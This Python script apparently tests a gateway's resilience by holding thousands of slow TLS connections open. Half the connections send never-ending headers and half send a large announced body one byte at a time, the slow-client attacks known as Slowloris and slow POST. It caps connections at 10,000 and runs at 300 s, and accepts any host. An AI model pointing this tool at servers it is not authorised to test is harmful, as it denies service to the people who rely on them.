#!/usr/bin/env python3
"""One address trying to hold thousands of slow connections to the gateway (asyncio, TLS).

Each of --conns slots connects, then plays one of two slow clients, and reconnects as soon as the
server closes it, until --duration ends:
  headers  a request line, then a header line every --interval s, never finishing;
  body     complete headers announcing a large body to a route that takes none (/health/live), then
           a byte every --interval s (what once held 8,400 connections and 442 MiB of nginx).
Prints JSON: connections opened, peak held at once, connect errors, answers by status line.
Bounded: at most 10,000 slots and 300 s; targets only the address given.
"""

import argparse
import asyncio
import json
import resource
import ssl
import time


async def slot(i, a, st, end, tls, handshakes):
    mode = "headers" if i % 2 else "body"
    await asyncio.sleep((i % 1000) * a.ramp / 1000)
    while time.time() < end:
        try:
            # At most --parallel handshakes at once: thousands started together all crawl, none
            # completes, and the loop falls behind its own clock (this once opened 0 connections).
            # Slots queue here for their turn; one whose turn comes after the end stops instead of
            # connecting, and no handshake outlives the end, so the run stops on time (with up to
            # 10 s per handshake, draining thousands of queued slots 64 at a time once took longer
            # than the 15 s of grace and left slots to be cut).
            async with handshakes:
                left = end - time.time()
                if left <= 0:
                    break
                r, w = await asyncio.wait_for(
                    asyncio.open_connection(a.host, a.port, ssl=tls, server_hostname="localhost"), min(10, left)
                )
        except (TimeoutError, OSError, ssl.SSLError):
            st["connect_errors"] += 1
            await asyncio.sleep(1)
            continue
        st["opened"] += 1
        st["open_now"] += 1
        st["peak"] = max(st["peak"], st["open_now"])
        try:
            if mode == "headers":
                w.write(b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n")
            else:
                w.write(b"POST /health/live HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n")
            n = 0
            while time.time() < end:
                await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(4096), a.interval)
                except TimeoutError:
                    n += 1
                    w.write(b"X-Slow-%d: %d\r\n" % (n, n) if mode == "headers" else b"a")
                    continue
                if not data:
                    break
                line = data.split(b"\r\n", 1)[0].decode(errors="replace")
                if line.startswith("HTTP/"):
                    st["answers"][line] = st["answers"].get(line, 0) + 1
        except (TimeoutError, OSError, ssl.SSLError):
            pass
        finally:
            st["open_now"] -= 1
            w.close()


async def main_async(a):
    st = {"opened": 0, "open_now": 0, "peak": 0, "connect_errors": 0, "answers": {}}
    end = time.time() + a.duration
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    handshakes = asyncio.Semaphore(a.parallel)
    tasks = [asyncio.ensure_future(slot(i, a, st, end, tls, handshakes)) for i in range(a.conns)]
    # A hard stop: with thousands of TLS handshakes the loop can lag far behind the clock.
    _, pending = await asyncio.wait(tasks, timeout=a.duration + 15)
    for t in pending:
        t.cancel()
    await asyncio.gather(*pending, return_exceptions=True)
    st["cut_at_deadline"] = len(pending)
    st.pop("open_now")
    return st


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, default=443)
    p.add_argument("--conns", type=int, default=8000)
    p.add_argument("--duration", type=float, default=40)
    p.add_argument("--interval", type=float, default=4)
    p.add_argument("--ramp", type=float, default=5, help="seconds over which each 1,000 slots start")
    p.add_argument("--parallel", type=int, default=64, help="TLS handshakes in flight at once")
    a = p.parse_args()
    if a.conns > 10000 or a.duration > 300:
        raise SystemExit("flood: conns <= 10000, duration <= 300 s")
    want = a.conns + 1000
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(want, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    print(json.dumps(asyncio.run(main_async(a))))


if __name__ == "__main__":
    main()
